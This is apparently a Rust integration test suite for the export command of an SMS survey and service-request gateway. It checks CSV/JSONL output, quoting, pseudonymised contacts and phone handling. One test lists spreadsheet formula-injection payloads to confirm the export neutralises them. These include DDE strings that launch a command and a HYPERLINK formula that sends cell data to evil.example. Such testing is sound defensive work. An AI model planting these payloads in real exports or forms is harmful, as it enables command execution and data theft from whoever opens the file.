//! What residents text over the webhook comes out of `civictext export` (the real binary): one
//! row per session, a column per question plus its `_raw` text, RFC 4180 CSV or JSON lines.

mod common;

use std::collections::HashMap;

use common::{TestApp, phone, spawn_app};

/// Runs `civictext export` against the gateway's database and flows; returns stdout.
fn export(app: &TestApp, flow: &str, format: &str, extra: &[&str]) -> String {
    let mut args = vec!["export", "--flow", flow, "--format", format];
    args.extend_from_slice(extra);
    app.civictext(&args)
}

fn parse_csv(csv_text: &str) -> (Vec<String>, Vec<HashMap<String, String>>) {
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    let rows = reader
        .records()
        .map(|r| {
            header
                .iter()
                .cloned()
                .zip(r.unwrap().iter().map(str::to_string))
                .collect()
        })
        .collect();
    (header, rows)
}

async fn converse(app: &TestApp, from: &str, texts: &[&str]) -> Vec<String> {
    let mut last = Vec::new();
    for t in texts {
        last = app.say(from, t).await;
    }
    last
}

#[tokio::test]
async fn survey_answers_come_out_of_the_csv_export_one_row_per_session() {
    let app = spawn_app().await;
    let (ana, ben, cruz) = (phone(1), phone(2), phone(3));
    let tricky = "Benches, \"old\" ones; fix them";
    converse(&app, &ana, &["PARKS", "2", "four", "Yes!", tricky]).await;
    converse(&app, &ben, &["PARKS", "never", "Too far, no bus"]).await;
    converse(&app, &cruz, &["PARQUES", "cada semana", "5"]).await;

    let text = export(&app, "park-survey", "csv", &[]);
    // RFC 4180: CRLF after every record, quotes doubled inside quoted fields.
    assert!(text.ends_with("\r\n"));
    assert_eq!(text.matches("\r\n").count(), 4, "{text}");
    assert!(
        text.contains("\"Benches, \"\"old\"\" ones; fix them\""),
        "{text}"
    );

    let (header, rows) = parse_csv(&text);
    let questions = ["visits", "rating", "dogs", "comments", "why-not"];
    for q in questions {
        assert!(header.contains(&q.to_string()), "{q} column in {header:?}");
        assert!(header.contains(&format!("{q}_raw")), "{q}_raw column");
    }
    for col in [
        "session_id",
        "contact",
        "flow_version",
        "language",
        "status",
    ] {
        assert!(header.contains(&col.to_string()), "{col} column");
    }
    assert_eq!(rows.len(), 3);
    let version: String = app
        .db()
        .scalar(
            "SELECT version FROM flow_versions WHERE flow_id = 'park-survey'",
            &[],
        )
        .await;

    let a = &rows[0];
    assert_eq!(a["status"], "completed");
    assert_eq!(a["language"], "en");
    assert_eq!(a["flow_version"], version);
    assert_eq!(a["visits"], "monthly");
    assert_eq!(a["visits_raw"], "2");
    assert_eq!(a["rating"], "4");
    assert_eq!(a["rating_raw"], "four");
    assert_eq!(a["dogs"], "yes");
    assert_eq!(a["dogs_raw"], "Yes!");
    assert_eq!(a["comments_raw"], tricky);
    assert_eq!(a["why-not"], "");

    let b = &rows[1];
    assert_eq!(b["visits"], "never");
    assert_eq!(b["why-not"], "Too far, no bus");
    assert_eq!(b["rating"], "");
    assert_eq!(b["status"], "completed");

    let c = &rows[2];
    assert_eq!(c["language"], "es");
    assert_eq!(c["status"], "active");
    assert_eq!(c["visits"], "weekly");
    assert_eq!(c["visits_raw"], "cada semana");
    assert_eq!(c["rating"], "5");

    // Phone numbers stay out unless asked for.
    for p in [&ana, &ben, &cruz] {
        assert!(!text.contains(p.as_str()), "{p} leaked into the export");
    }
    assert_ne!(a["contact"], b["contact"]);
    // The contact column is a keyed pseudonym, not a row number anyone could count through.
    assert!(a["contact"].starts_with("r_"), "{}", a["contact"]);
    assert!(!header.contains(&"phone".to_string()));
    let with_phones = export(&app, "park-survey", "csv", &["--include-phones"]);
    let (_, with) = parse_csv(&with_phones);
    // Spreadsheet-safe: a number starting with + is written as text.
    assert_eq!(with[0]["phone"], format!("'{ana}"));
    assert_eq!(with[2]["phone"], format!("'{cruz}"));
    assert_eq!(with[0]["contact"], a["contact"]);
}

#[tokio::test]
async fn survey_answers_come_out_of_the_jsonl_export_with_their_categories() {
    let app = spawn_app().await;
    let me = phone(4);
    converse(&app, &me, &["PARKS", "weekly", "3", "nope", "😀 great"]).await;
    let text = export(&app, "park-survey", "jsonl", &[]);
    let lines: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).expect("one JSON object per line"))
        .collect();
    assert_eq!(lines.len(), 1);
    let s = &lines[0];
    assert_eq!(s["status"], "completed");
    assert_eq!(
        s["answers"]["visits"],
        serde_json::json!({"value": "weekly", "raw": "weekly", "category": "weekly"})
    );
    assert_eq!(s["answers"]["rating"]["category"], "number");
    assert_eq!(s["answers"]["dogs"]["value"], "no");
    assert_eq!(s["answers"]["dogs"]["raw"], "nope");
    assert_eq!(s["answers"]["comments"]["raw"], "😀 great");
    assert!(!text.contains(&me));
}

#[tokio::test]
async fn a_service_request_comes_out_of_the_export_with_the_tracking_code_the_resident_was_sent() {
    let app = spawn_app().await;
    let me = phone(5);
    converse(&app, &me, &["POTHOLE", "Oak St and 3rd", "yes"]).await;
    app.text_photo(&me, "", "https://api.twilio.com/media/ME9")
        .await;
    let done = app.say(&me, "Hole by the curb").await;
    let code = done[0]
        .strip_prefix("Thanks! Your tracking code is ")
        .and_then(|s| s.strip_suffix('.'))
        .unwrap_or_else(|| panic!("no tracking code in {done:?}"))
        .to_string();
    let stored: String = app
        .db()
        .scalar("SELECT code FROM service_requests", &[])
        .await;
    assert_eq!(stored, code);

    let (header, rows) = parse_csv(&export(&app, "pothole-report", "csv", &[]));
    assert!(header.contains(&"tracking_code".to_string()), "{header:?}");
    assert_eq!(rows.len(), 1);
    let r = &rows[0];
    assert_eq!(r["tracking_code"], code);
    assert_eq!(r["where"], "Oak St and 3rd");
    assert_eq!(r["photo"], "https://api.twilio.com/media/ME9");
    assert_eq!(r["details"], "Hole by the curb");
    assert_eq!(r["status"], "completed");

    let jsonl = export(&app, "pothole-report", "jsonl", &[]);
    let line: serde_json::Value = serde_json::from_str(jsonl.trim()).unwrap();
    assert_eq!(line["tracking_code"], code.as_str());
    assert_eq!(line["answers"]["where"]["value"], "Oak St and 3rd");
}

/// Answers that Excel, LibreOffice or Google Sheets would run as a formula, with what the CSV
/// cell must hold instead (the answer shown as text behind a `'`).
const FORMULAS: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click me\")",
    "+1 502 555 0123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
];

#[tokio::test]
async fn answers_a_spreadsheet_would_run_as_formulas_are_exported_as_text_and_json_stays_exact() {
    let app = spawn_app().await;
    for (n, attack) in FORMULAS.iter().enumerate() {
        converse(&app, &phone(20 + n as u32), &["PARKS", "never", attack]).await;
    }
    // A tab or carriage return in front is kept in the raw text; spreadsheets skip it and run
    // what follows.
    converse(&app, &phone(40), &["PARKS", "weekly", "4", "yes", "\t=1+1"]).await;
    converse(&app, &phone(41), &["PARKS", "weekly", "4", "yes", "\r=1+1"]).await;
    // A plain negative number stays a number.
    converse(&app, &phone(42), &["PARKS", "weekly", "4", "yes", "-3"]).await;

    let text = export(&app, "park-survey", "csv", &[]);
    let (_, rows) = parse_csv(&text);
    assert_eq!(rows.len(), FORMULAS.len() + 3);
    for (row, attack) in rows.iter().zip(FORMULAS) {
        assert_eq!(row["why-not"], format!("'{attack}"));
        assert_eq!(row["why-not_raw"], format!("'{attack}"));
    }
    let tab = &rows[FORMULAS.len()];
    assert_eq!(tab["comments"], "'=1+1");
    assert_eq!(tab["comments_raw"], "'\t=1+1");
    let cr = &rows[FORMULAS.len() + 1];
    assert_eq!(cr["comments_raw"], "'\r=1+1");
    let negative = &rows[FORMULAS.len() + 2];
    assert_eq!(negative["comments"], "-3");
    // No cell of the file starts with a formula character after the quote is considered.
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    for record in reader.records() {
        for field in record.unwrap().iter() {
            let first = field.trim_start_matches(' ').chars().next();
            assert!(
                !matches!(first, Some('=' | '+' | '@' | '\t' | '\r'))
                    && (!field.starts_with('-') || field == "-3"),
                "unsafe cell {field:?}"
            );
        }
    }

    // JSON is for programs: every answer exactly as stored.
    let jsonl = export(&app, "park-survey", "jsonl", &[]);
    let lines: Vec<serde_json::Value> = jsonl
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    for (line, attack) in lines.iter().zip(FORMULAS) {
        assert_eq!(line["answers"]["why-not"]["value"], *attack);
        assert_eq!(line["answers"]["why-not"]["raw"], *attack);
    }
    assert_eq!(
        lines[FORMULAS.len()]["answers"]["comments"]["raw"],
        "\t=1+1"
    );
}

#[tokio::test]
async fn phone_numbers_in_a_csv_export_open_as_text_with_their_plus_and_every_digit() {
    let app = spawn_app().await;
    let me = phone(6);
    converse(&app, &me, &["PARKS", "never", "Too far"]).await;
    let (_, rows) = parse_csv(&export(&app, "park-survey", "csv", &["--include-phones"]));
    assert_eq!(rows[0]["phone"], format!("'{me}"));
    let jsonl = export(&app, "park-survey", "jsonl", &["--include-phones"]);
    let line: serde_json::Value = serde_json::from_str(jsonl.trim()).unwrap();
    assert_eq!(line["phone"], me.as_str());
}

#[tokio::test]
async fn exporting_a_flow_that_does_not_exist_fails_and_names_the_flows_there_are() {
    let app = spawn_app().await;
    converse(&app, &phone(7), &["PARKS", "never", "Too far"]).await;
    for format in ["csv", "jsonl"] {
        let out = app.civictext_output(&["export", "--flow", "park-survy", "--format", format]);
        assert!(!out.status.success(), "a mistyped flow id exported");
        assert!(
            out.stdout.is_empty(),
            "{}",
            String::from_utf8_lossy(&out.stdout)
        );
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("park-survy"), "{err}");
        assert!(
            err.contains("park-survey, pothole-report, quick-poll"),
            "the flows are not listed: {err}"
        );
    }
}
